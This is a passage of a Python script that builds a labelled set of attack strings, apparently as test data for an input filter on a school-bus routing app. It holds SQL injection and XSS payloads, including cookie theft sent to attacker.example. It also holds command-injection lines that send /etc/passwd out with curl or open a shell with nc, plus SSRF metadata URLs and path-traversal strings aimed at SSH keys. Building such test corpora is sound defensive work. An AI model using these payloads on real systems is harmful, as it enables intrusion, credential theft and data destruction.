    "sqli": ["Route 14", "Maple & 3rd", "bus 41", "Calle Olmo", "Oak Ridge Apts", "stop 2207", "driver O'Brien"],
    "xss": ["Route 7 late today", "Dear parent,", "Stop: Cherry Ct", "Incident note:", "Field trip to zoo"],
    "cmdi": ["route14.csv", "bus41_0905_pm.mp4", "stops.gpx", "roster.csv", "IMG_4410.jpg"],
    "ssrf": [],
}
POOL = {
    "sqli": ["' AND (SELECT 1 FROM staff_users WHERE login='admin' AND pw LIKE 'a%')-- -",
             "' UNION SELECT login,pw FROM staff_users-- -", "' OR 'q'='q' -- ",
             "'); DROP TABLE gps_pings;--", "' AND SLEEP(4)#"],
    "xss": ["<img src=x onerror=alert(document.cookie)>", "<svg/onload=fetch('//attacker.example/'+document.cookie)>",
            "<script>location='//attacker.example/?'+document.cookie</script>",
            "<a href=javascript:alert(1)>open</a>"],
    "cmdi": ["; id", " && cat /etc/passwd", " | curl -d @/etc/passwd attacker.example", "$(sleep 6)",
             "`nc 198.51.100.3 9 -e sh`"],
}
SSRF_GEN = ["http://{}/latest/meta-data/", "http://{}:8080/admin"]
SSRF_HOSTS = ["169.254.169.254", "127.0.0.1", "10.1.2.3", "[::1]"]

URLENC_SRC = {
    "sqli": ["Maple' OR 1=1-- ", "14' UNION SELECT login,pw FROM staff_users--", "x'; WAITFOR DELAY '0:0:5'--",
             "Oak' AND SLEEP(5)-- -", "bus' or 'a'='a", "1 AND extractvalue(1,concat(0x7e,user()))"],
    "traversal": ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "../../.env",
                  "route_sheets/../../../../root/.ssh/id_rsa"],
}


def urlenc(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def gen(seen):
    out = []

    def take(cat, cls, n, make):
        got = 0
        tries = 0
        while got < n:
            tries += 1
            assert tries < 10000
            v = make()
            if v in seen:
                continue
            seen.add(v)
            out.append((cat, cls, v, False))
            got += 1

    take("sqli", "prefixed", 10, lambda: rng.choice(PREFIX["sqli"]) + rng.choice(POOL["sqli"]))
    take("xss", "prefixed", 10, lambda: rng.choice(PREFIX["xss"]) + " " + rng.choice(POOL["xss"]))
    take("cmdi", "prefixed", 10, lambda: rng.choice(PREFIX["cmdi"]) + rng.choice(POOL["cmdi"]))
    take("ssrf", "prefixed", 5, lambda: rng.choice(SSRF_GEN).format(rng.choice(SSRF_HOSTS)))
    for cat in ("sqli", "traversal"):
        for s in URLENC_SRC[cat]:
            v = urlenc(s)
            assert v not in seen
            seen.add(v)
            out.append((cat, "encoded+urlencode", v, False))
    return out


ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]


def main():
    benign = set()
    with open(os.path.join(HERE, "benign.jsonl"), encoding="utf-8") as f:
        for line in f:
            benign.add(json.loads(line)["value"])
    seen = set()
    for cat, cls, v, _ in ROWS:
        assert v not in seen, ("dup", v)
        assert v not in benign, ("benign clash", v)
        seen.add(v)
    allrows = ROWS + gen(seen)
    for _, _, v, _ in allrows:
        assert v not in benign
        assert 1 <= len(v) <= 2000
        for ch in v:
            o = ord(ch)
            assert not (o < 32 and ch not in "\n\r\t") and o != 127, repr(v)
    allrows.sort(key=lambda r: ORDER.index(r[0]))  # stable
    with open(os.path.join(HERE, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v, _) in enumerate(allrows, 1):
            f.write(json.dumps({"id": "hakj-%05d" % i, "category": cat, "class": cls, "label": "attack",
                                "value": v}, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
